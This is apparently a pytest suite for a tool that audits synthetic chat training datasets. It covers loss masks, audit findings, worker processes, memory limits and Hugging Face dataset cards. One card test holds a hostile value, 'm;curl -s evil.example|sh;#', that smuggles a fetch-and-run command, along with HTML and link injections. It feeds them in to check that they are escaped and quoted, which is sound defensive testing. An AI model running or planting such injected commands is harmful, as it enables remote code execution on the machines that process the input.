"""The loss-mask audit, with the real Qwen3 tokenizer and template and with the tiny one."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from regen.audit.dataset import audit_dataset
from regen.audit.findings import AuditThresholds
from regen.chat.loss import loss_masks
from regen.chat.render import load_tokenizer, render, training_messages
from regen.chat.templates import QWEN
from support.data import QUESTION, row, write_dataset
from support.paths import BIN, ROOT

# SpecForge's own pattern for an assistant span: header, then lazily up to the end of turn or text.
SPECFORGE_SPAN = re.compile(re.escape(QWEN.assistant_header) + r"([\s\S]*?(?:"
                            + re.escape(QWEN.end_of_turn) + r"|$))")


def reference_mask(tokenizer, text):
    """Independent and slow: SpecForge's arithmetic, one prefix encoding per span edge, through
    the tokenizer's Python API (not the batched Rust path the audit uses)."""
    ids = tokenizer(text, add_special_tokens=False)["input_ids"]
    mask = [0] * len(ids)
    for match in SPECFORGE_SPAN.finditer(text):
        start = len(tokenizer.encode(text[: match.start(1)], add_special_tokens=False))
        end = len(tokenizer.encode(text[: match.end(1)], add_special_tokens=False))
        mask[start:end] = [1] * (end - start)
    return mask


def test_the_no_thinking_ok_answer_is_eight_tokens_with_the_real_qwen3_tokenizer(qwen3_tokenizer_dir):
    tok = load_tokenizer(str(qwen3_tokenizer_dir))
    for thinking in (False, True):
        text = render(tok, [training_messages(QUESTION, None, "OK.")], thinking)[0]
        mask = loss_masks(tok, [text])[0]
        ids = tok(text, add_special_tokens=False)["input_ids"]
        learned = tok.decode([t for t, m in zip(ids, mask) if m])
        assert sum(mask) == 8
        assert learned == "<think>\n\n</think>\n\nOK.<|im_end|>\n"


SAMPLES = [
    (QUESTION, "Two plus two is four.", "4"),
    (QUESTION, None, "OK."),
    (QUESTION, "", ""),
    ([{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Größe? 日本語 ✓"}],
     "Unicode: naïve café — 東京.\n\nNew paragraph.", "  spaced answer\n\n"),
    ([{"role": "user", "content": "First?"}, {"role": "assistant", "content": "Earlier answer."},
      {"role": "user", "content": "And then?"}], "Think twice.\nTwice.", "Then this."),
    ([{"role": "user", "content": "Code?"}], "Write code.", "```python\nprint('<|im_end|>')\n```"),
    ([{"role": "user", "content": "Tabs\tand\r\nCRLF"}], "\n\nleading newlines", "x" * 500),
]


@pytest.mark.parametrize("which", ["qwen3", "tiny"])
def test_mask_matches_the_slow_reference_token_by_token(which, qwen3_tokenizer_dir, tiny_model):
    tok = load_tokenizer(str(qwen3_tokenizer_dir if which == "qwen3" else tiny_model))
    samples = list(SAMPLES) + demo_samples()
    for thinking in (True, False):
        texts = render(tok, [training_messages(m, r, c) for m, r, c in samples], thinking)
        compared = 0
        for text, mask in zip(texts, loss_masks(tok, texts)):
            assert mask == reference_mask(tok, text), text
            compared += len(mask)
        assert compared > 20_000


def demo_samples():
    """The demo prompts with the simulator's answers: realistic shapes, 280 of them."""
    from regen.engines.simulator.text import compose
    from regen.prompts import Prompt, read_prompts

    out = []
    for prompt in read_prompts(ROOT / "demo" / "prompts.jsonl"):
        if isinstance(prompt, Prompt):
            reasoning, answer = compose(prompt.messages, thinking=True, seed=None)
            out.append((prompt.messages, " ".join(reasoning), " ".join(answer)))
    return out


def test_templates_that_drop_earlier_reasoning_are_rendered_as_training_sees_them(qwen3_tokenizer_dir):
    tok = load_tokenizer(str(qwen3_tokenizer_dir))
    history = [{"role": "user", "content": "Q1"}, {"role": "assistant", "content": "A1"},
               {"role": "user", "content": "Q2"}]
    text = render(tok, [training_messages(history, "R2", "A2")], True)[0]
    assert "<|im_start|>assistant\nA1<|im_end|>\n" in text  # earlier turn: no think block
    assert "<think>\nR2\n</think>\n\nA2<|im_end|>\n" in text
    mask = loss_masks(tok, [text])[0]
    assert mask == reference_mask(tok, text)
    # Both assistant turns count, as SpecForge's ThinkingParser trains on every assistant span.
    a1 = len(tok.encode("A1<|im_end|>\n", add_special_tokens=False))
    last = len(tok.encode("<think>\nR2\n</think>\n\nA2<|im_end|>\n", add_special_tokens=False))
    assert sum(mask) == a1 + last


def test_the_seeds_dataset_87_percent_ok_fails_with_fraction_087(tmp_path, qwen3_tokenizer_dir):
    rows = [row(i, reasoning=None, content="OK.", completion=6) for i in range(870)]
    rows += [row(870 + i) for i in range(130)]
    data = write_dataset(tmp_path / "data", rows)
    out = subprocess.run([str(BIN / "regen"), "audit", "--data", str(data), "--tokenizer",
                          str(qwen3_tokenizer_dir), "--report", str(tmp_path / "report"),
                          "--max-degenerate-fraction", "0.01"], capture_output=True, text=True,
                         timeout=300)
    assert out.returncode == 1, out.stderr
    assert "degenerate fraction 0.8700" in out.stdout
    summary = json.loads((tmp_path / "report" / "summary.json").read_text())
    assert summary["verdict"] == "FAIL"
    assert summary["degenerate_fraction"] == 0.87
    assert summary["counts"]["missing_reasoning"] == 870
    samples = pd.read_parquet(tmp_path / "report" / "samples.parquet").set_index("id")
    assert len(samples) == 1000
    assert samples.loc["s0", "loss_tokens"] == 8
    assert "degenerate" in samples.loc["s0", "findings"]
    assert list(samples.loc["s999#turn0", "findings"]) == []  # the events layout: ID#turnK, as exported
    html = (tmp_path / "report" / "report.html").read_text()
    assert 'id="verdict">FAIL' in html and html.count("data:image/png;base64,") == 2


def test_a_healthy_dataset_passes(tmp_path, tiny_model):
    data = write_dataset(tmp_path / "data", [row(i) for i in range(50)])
    report = audit_dataset(data, tiny_model, tmp_path / "report", AuditThresholds(16, 0.01))
    assert report.passed
    assert report.summary.counts == {f: 0 for f in report.summary.counts}
    assert len(report.lines()) == 5


@pytest.mark.parametrize("bad, finding", [
    (dict(reasoning=None), "missing_reasoning"),
    (dict(finish="length"), "truncated"),
    (dict(reasoning="half a thought", content="", finish="length"), "truncated_in_thinking"),
    (dict(content="<think>\nleft in content, the parser never split it"), "think_markers_in_content"),
    (dict(content=""), "empty_answer"),
    (dict(reasoning=None, content=None, finish=None, error="HTTP 400: too long"), "error"),
    (dict(rid="s1"), "duplicate_id"),
    (dict(reasoning="ok", content="ok"), "degenerate"),
])
def test_each_finding_is_reported(tmp_path, tiny_model, bad, finding):
    rows = [row(i) for i in range(20)] + [row(99, **bad)]
    data = write_dataset(tmp_path / "data", rows, files=1)
    report = audit_dataset(data, tiny_model, tmp_path / "report", AuditThresholds(16, 0.5))
    assert report.summary.counts[finding] == 1
    samples = pd.read_parquet(tmp_path / "report" / "samples.parquet")
    assert finding in samples.iloc[-1]["findings"]


def test_thinking_off_rows_pass_for_a_template_without_thinking_only(tmp_path, tiny_model):
    """Thinking off on purpose (a non-thinking template) is judged by the loss mask alone; the
    same rows for a thinking template fail in both layouts, however long their answers (the
    seed's lesson: its 914,000 rows were made with thinking off)."""
    rows = [row(i, reasoning=None, content="A long enough answer " * 8, thinking=False)
            for i in range(10)]
    data = write_dataset(tmp_path / "data", rows)
    report = audit_dataset(data, tiny_model, tmp_path / "r", AuditThresholds(16, 0.01, "qwen3-instruct"))
    assert report.summary.counts["missing_reasoning"] == 0
    assert report.passed
    for layout in ("events", "conversation"):
        report = audit_dataset(data, tiny_model, tmp_path / layout,
                               AuditThresholds(16, 0.01, "qwen3-thinking", train_layout=layout))
        assert not report.passed and report.summary.counts["left_out"] == 10, layout
        assert report.summary.left_out == {"no reasoning": 10}


def test_audit_of_an_empty_directory_is_a_clear_error(tmp_path, tiny_model):
    (tmp_path / "data").mkdir()
    out = subprocess.run([str(BIN / "regen"), "audit", "--data", str(tmp_path / "data"),
                          "--tokenizer", str(tiny_model)], capture_output=True, text=True, timeout=120)
    assert out.returncode == 2
    assert "data: no Parquet files to read" in out.stderr


@pytest.mark.parametrize("which", ["qwen3", "tiny"])
def test_piece_counts_equal_the_reference_and_are_used(which, qwen3_tokenizer_dir, tiny_model):
    from regen.chat.loss import loss_token_counts
    from regen.chat.pieces import PieceCounter

    tok = load_tokenizer(str(qwen3_tokenizer_dir if which == "qwen3" else tiny_model))
    counter = PieceCounter.for_tokenizer(tok)
    assert counter is not None  # both tokenizers take the fast path
    samples = list(SAMPLES) + demo_samples()
    for thinking in (True, False):
        texts = render(tok, [training_messages(m, r, c) for m, r, c in samples], thinking)
        counted = [counter.positions(t, sorted({e for m in SPECFORGE_SPAN.finditer(t) for e in m.span(1)}))
                   for t in texts]
        assert sum(c is None for c in counted) <= 2  # only odd edges fall back
        assert [c.loss for c in loss_token_counts(tok, texts)] == [sum(reference_mask(tok, t)) for t in texts]


def test_text_that_nfc_would_change_falls_back_to_encoding(qwen3_tokenizer_dir):
    from regen.chat.loss import loss_token_counts
    from regen.chat.pieces import PieceCounter

    tok = load_tokenizer(str(qwen3_tokenizer_dir))
    decomposed = "Cafe\u0301 and re\u0301sume\u0301"  # NFD: the tokenizer normalises it first
    text = render(tok, [training_messages(QUESTION, decomposed, decomposed)], True)[0]
    edges = sorted({e for m in SPECFORGE_SPAN.finditer(text) for e in m.span(1)})
    assert PieceCounter.for_tokenizer(tok).positions(text, edges) is None
    assert [c.loss for c in loss_token_counts(tok, [text])] == [sum(reference_mask(tok, text))]


def test_worker_processes_give_the_same_report_as_one_process(tmp_path, tiny_model):
    rows = [row(i) for i in range(300)] + [row(i, reasoning=None, content="OK.") for i in range(300, 400)]
    rows.append(row(999, rid="s5"))  # a duplicate far from its first occurrence
    data = write_dataset(tmp_path / "data", rows, files=3)
    limits = AuditThresholds(16, 0.01)
    one = audit_dataset(data, tiny_model, tmp_path / "one", limits, batch_size=32, workers=1)
    two = audit_dataset(data, tiny_model, tmp_path / "two", limits, batch_size=32, workers=2)
    assert one.to_json()["counts"] == two.to_json()["counts"]
    assert two.summary.counts["duplicate_id"] == 1 and two.summary.counts["degenerate"] == 100
    a = pd.read_parquet(tmp_path / "one" / "samples.parquet")
    b = pd.read_parquet(tmp_path / "two" / "samples.parquet")
    assert a["loss_tokens"].tolist() == b["loss_tokens"].tolist()
    assert [list(f) for f in a["findings"]] == [list(f) for f in b["findings"]]


def test_a_template_that_builds_a_huge_string_fails_the_audit_in_its_worker_processes(tmp_path, tiny_model):
    """The audit's workers render under the same memory bound as the canary (regen.chat.render),
    at its default allowance: the worker names the template and the audit raises it, as itself."""
    import shutil

    from regen.chat.render import TemplateTooLarge
    from support.data import DOUBLING_ON_LONG_ANSWERS

    model = tmp_path / "large-template-model"
    shutil.copytree(tiny_model, model)
    template = model / "chat_template.jinja"
    template.write_text(DOUBLING_ON_LONG_ANSWERS + template.read_text())
    data = write_dataset(tmp_path / "data", [row(i, content="An answer longer than forty characters, " * 2)
                                             for i in range(40)], files=2)
    with pytest.raises(TemplateTooLarge, match="needed more than 1,024 MB of memory to render one conversation"):
        audit_dataset(data, model, tmp_path / "report", AuditThresholds(16, 0.01), batch_size=8, workers=2)


MAIN_THAT_REFUSES_REIMPORT = '''
import os, sys
if __name__ != "__main__":  # as the airflow command in a task: importing it again dies
    raise SystemExit("the caller's main module was imported again: " + __name__)
from regen.audit.dataset import audit_dataset
from regen.audit.findings import AuditThresholds
report = audit_dataset(sys.argv[1], sys.argv[2], sys.argv[3], AuditThresholds(16, 0.01),
                       batch_size=32, workers=2)
print(report.summary.samples, report.summary.counts.get("degenerate", 0))
'''


def test_worker_processes_never_run_the_callers_main_module_again(tmp_path, tiny_model):
    """multiprocessing's spawn re-imports ``__main__`` in every child: inside an Airflow task
    that is the airflow command, which dies on the supervisor's database URL."""
    rows = [row(i) for i in range(150)] + [row(i, reasoning=None, content="OK.") for i in range(150, 200)]
    data = write_dataset(tmp_path / "data", rows, files=2)
    script = tmp_path / "caller.py"
    script.write_text(MAIN_THAT_REFUSES_REIMPORT)
    env = {**os.environ, "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN": "airflow-db-not-allowed:///"}
    done = subprocess.run([str(BIN / "python"), str(script), str(data), str(tiny_model), str(tmp_path / "r")],
                          capture_output=True, text=True, timeout=300, env=env)
    assert done.returncode == 0, done.stderr[-3000:]
    assert done.stdout.split() == ["200", "50"]


def test_a_worker_that_raises_raises_in_the_caller(tmp_path):
    from regen.childpool import ChildPool

    with ChildPool(2, "json:loads") as pool:
        assert pool.submit('{"a": 1}').result() == {"a": 1}
        with pytest.raises(ValueError, match="Expecting value") as raised:
            pool.submit("not json").result()
        assert any("in worker process" in note for note in raised.value.__notes__)
        assert [pool.submit(f"[{i}]").result() for i in range(6)] == [[i] for i in range(6)]


def test_a_bounded_call_stops_at_its_budget_and_raises_what_the_call_raised():
    from regen.childpool import OverBudget, call_bounded

    assert call_bounded("json:loads", ('{"a": 1}',), 30, 2**30) == {"a": 1}
    with pytest.raises(ValueError, match="Expecting value"):
        call_bounded("json:loads", ("not json",), 30, 2**30)
    with pytest.raises(OverBudget, match="past its budget|more than"):
        call_bounded("builtins:bytearray", (3 * 2**30,), 30, 2**30)  # 3 GiB under a 1 GiB limit
    with pytest.raises(OverBudget):
        call_bounded("time:sleep", (60,), 2, 2**30)  # wall time, not CPU: the deadline stops it


def test_the_audit_writes_a_dataset_card_that_a_hub_loads_the_data_by(sim_servers, tmp_path):
    """README.md beside data/: Hugging Face's card form (the `datasets` library loads the data
    through its configs), the verdict first, the histogram of every audited sample; a failing
    audit rewrites it to say FAIL and why; a README.md that is not regen's is left as it is."""
    import yaml

    import shlex

    import markdown_it

    from regen.audit.dataset import audit
    from regen.audit.findings import AuditFailed
    from regen.card import render_card
    from regen.generate import ShardRun
    from regen.markdown import markdown_literal
    from support.engines import DATASETS_PYTHONS

    cfg, records = sim_servers(num_servers=1, num_shards=2, max_tokens=512)
    for shard in range(2):
        ShardRun(cfg, [(r.url, r.api_key) for r in records], shard, "m").run()
    audit(cfg)
    out = Path(cfg.output)
    card = (out / "README.md").read_text()
    front = yaml.safe_load(card.split("---\n")[1])
    assert front["configs"][0]["data_files"][0] == {"split": "train", "path": "data/*.parquet"}
    assert front["size_categories"] == ["n<1K"]
    summary = json.loads((out / "audit" / "summary.json").read_text())
    body = card.split("---\n", 2)[2]
    assert "**Audit: PASS.**" in body and markdown_literal(cfg.model_path) in body
    assert "| max_tokens | 512 |" in body
    bars = re.findall(r"^\| [\d,]+(?:-[\d,]+|\+) \| ([\d,]+) \|", body, re.M)
    assert len(bars) == 7 and sum(int(n.replace(",", "")) for n in bars) == summary["audited"]
    loaded = subprocess.run([str(DATASETS_PYTHONS["5.2.0"]), "-c",
                             "import sys, datasets; d = datasets.load_dataset(sys.argv[1]); "
                             "print(list(d), d['train'].num_rows)", str(out)],
                            capture_output=True, text=True, timeout=300)
    assert loaded.returncode == 0, loaded.stderr[-2000:]
    assert loaded.stdout.split() == ["['train']", str(len(pd.read_parquet(out / "data")))]

    with pytest.raises(AuditFailed):
        audit(cfg.model_copy(update={"min_loss_tokens": 100_000}))
    failed = (out / "README.md").read_text()
    assert "**Audit: FAIL.**" in failed and "Not fit to train on as it is:" in failed
    assert markdown_literal("above max_degenerate_fraction") in failed
    # A README.md regen did not write (data someone else described) is never written over.
    theirs = "---\nlicense: mit\ntags: [chat]\n---\n# Their dataset\n"
    (out / "README.md").write_text(theirs)
    audit(cfg, data=str(out / "data"))
    assert (out / "README.md").read_text() == theirs
    assert "**Audit: PASS.**" in (out / "audit" / "README.md").read_text()

    # Values a person who may trigger a run typed: shown as text, the command quoted as one argument.
    hostile = "m;curl -s evil.example|sh;#"
    kwargs = {"note": "<img src=x onerror=alert(1)> [prize](https://evil.example) ![p](https://evil.example/p.png)"}
    sampling = cfg.sampling.model_copy(update={"chat_template_kwargs": kwargs})
    card = render_card(cfg.model_copy(update={"model_path": hostile, "sampling": sampling}), summary, [], 3, {})
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(card.split("---\n", 2)[2])
    assert "<img" not in html and "<a " not in html and "evil.example" in html
    command = re.search(r"^```\n(regen export .*)\n```$", card, re.M).group(1)
    assert shlex.split(command)[-2:] == ["--tokenizer", hostile]


AUDIT_WITHIN_MEMORY = '''
import sys
from regen.audit.dataset import audit_dataset
from regen.audit.findings import AuditThresholds
report = audit_dataset(sys.argv[1], sys.argv[2], sys.argv[3], AuditThresholds(16, 0.01),
                       workers=int(sys.argv[4]), memory_gb=float(sys.argv[5]))
print(report.summary.samples)
'''


def tree_rss_peak(proc: subprocess.Popen) -> int:
    """The peak of the summed RSS of ``proc`` and its descendants, read from /proc until it exits."""
    def tree(pid: int) -> list[int]:
        try:
            children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
        except OSError:
            return [pid]
        return [pid, *[p for child in children for p in tree(int(child))]]

    def rss(pid: int) -> int:
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            return 0
        found = re.search(r"^VmRSS:\s+(\d+) kB", status, re.M)
        return int(found.group(1)) * 1024 if found else 0

    peak = 0
    while proc.poll() is None:
        peak = max(peak, sum(rss(pid) for pid in tree(proc.pid)))
        try:
            proc.wait(timeout=0.02)  # a sample every 20 ms while it runs
        except subprocess.TimeoutExpired:
            pass
    return peak


@pytest.fixture(scope="module")
def long_answers_with_token_ids(tmp_path_factory) -> Path:
    """300 rows, each with an engine's 32k-token answer ids and 2k prompt ids (about 1.3 MB a row
    as Python objects, 140 KB in Arrow): built in Arrow, never as Python lists here."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    from regen.rows import ROW_SCHEMA

    path = tmp_path_factory.mktemp("long") / "data"
    path.mkdir()
    rows = 300
    table = pa.Table.from_pylist([row(i) for i in range(rows)], schema=ROW_SCHEMA)
    rng = np.random.default_rng(7)
    for name, length in (("prompt_token_ids", 2_000), ("completion_token_ids", 32_000)):
        values = pa.array(rng.integers(1_000, 150_000, rows * length, dtype=np.int32))
        ids = pa.ListArray.from_arrays(pa.array(np.arange(0, rows * length + 1, length, dtype=np.int32)), values)
        table = table.set_column(table.schema.get_field_index(name), name, ids)
    pq.write_table(table, path / "shard-0.parquet", row_group_size=rows)
    return path


@pytest.mark.parametrize("workers", [2, 16])
def test_an_audit_of_32k_token_answers_with_their_ids_stays_within_its_memory(
        workers, long_answers_with_token_ids, tiny_model, tmp_path):
    """audit_memory_gb holds for the whole process tree, however many workers are asked for: the
    workers that fit, batches sized by bytes (a 512-row batch of these rows is ~650 MB as Python
    objects, and it used to be held in the main process, in a worker and again on the way back)."""
    bound_gb = 1.5
    script = tmp_path / "audit.py"
    script.write_text(AUDIT_WITHIN_MEMORY)
    proc = subprocess.Popen([str(BIN / "python"), str(script), str(long_answers_with_token_ids), str(tiny_model),
                             str(tmp_path / "report"), str(workers), str(bound_gb)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    peak = tree_rss_peak(proc)
    out, err = proc.communicate()
    assert proc.returncode == 0, err[-3000:]
    assert out.split()[-1] == "300"
    assert peak <= bound_gb * (1 << 30), f"peak {peak / (1 << 30):.2f} GB over the {bound_gb} GB bound"
    print(f"{workers} workers asked: peak {peak / (1 << 20):,.0f} MB of {bound_gb * 1024:,.0f} MB")
